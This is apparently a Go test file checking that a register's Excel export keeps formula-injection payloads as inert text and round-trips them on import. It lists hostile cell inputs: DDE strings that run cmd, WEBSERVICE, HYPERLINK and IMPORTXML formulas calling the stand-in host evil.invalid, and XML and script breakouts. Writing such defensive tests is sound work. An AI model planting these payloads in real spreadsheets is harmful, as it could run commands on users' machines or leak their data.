package registerbook

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"recense/report/register"
)

// payloads are texts that a spreadsheet program would run, or that would break the
// container.
func payloads() []string {
	var out []string
	for _, head := range []string{"=", "+", "-", "@", "\t=", " =", "\ufeff=", "\u200b="} {
		for _, body := range []string{`cmd|' /C calc'!A0`, `HYPERLINK("http://evil.invalid","x")`, `WEBSERVICE("http://evil.invalid")`, `1+1`, `IMPORTXML("http://evil.invalid","//a")`} {
			out = append(out, head+body)
		}
	}
	return append(out, `</t></is></c><c><f>1+1</f></c>`, `<![CDATA[x]]>`, `&quot;><script>`, "_x000D_", `'=1+1`, `DDE("cmd";"/C calc")`)
}

// TestPayloads: in every field and name of a sheet they stay what they are, and come
// back as they were.
func TestPayloads(t *testing.T) {
	tax := load(t)
	for _, p := range payloads() {
		text := strings.TrimSpace(p)
		file := fmt.Sprintf("schema: recense/register\nversion: 1\norganisation: {name: %q}\nsources: [{id: s, kind: file_share, owner: %q}]\nprocessings:\n  - {ref: %q, name: %q, software: [%q], access_groups: [%q], locations: [{source: s, path: %q}]}\n",
			text, text, text, text, text, text, text)
		r, err := register.Read("r.yaml", []byte(file), tax, "", nil)
		if err != nil {
			t.Fatalf("%q: %v", p, err)
		}
		want, err := r.Written().YAML("")
		if err != nil {
			t.Fatal(err)
		}
		book := write(t, r, tax, "fr")
		f, err := excelize.OpenReader(bytes.NewReader(book))
		if err != nil {
			t.Fatalf("%q: %v", p, err)
		}
		for _, at := range [][2]string{{"Organisme", "B4"}, {"Sources", "I2"}, {"Traitements", "A2"}, {"Traitements", "B2"}, {"Emplacements", "C2"}} {
			formula, _ := f.GetCellFormula(at[0], at[1])
			kind, _ := f.GetCellType(at[0], at[1])
			if value, _ := f.GetCellValue(at[0], at[1]); formula != "" || value != text || kind == excelize.CellTypeFormula {
				t.Errorf("%q in %s!%s: %q, formula %q", p, at[0], at[1], value, formula)
			}
		}
		f.Close()
		got, err := Import("r.xlsx", book, tax, "", nil)
		if err != nil || !bytes.Equal(got, want) {
			t.Errorf("%q: %v\ngot:\n%s\nwant:\n%s", p, err, got, want)
		}
	}
}
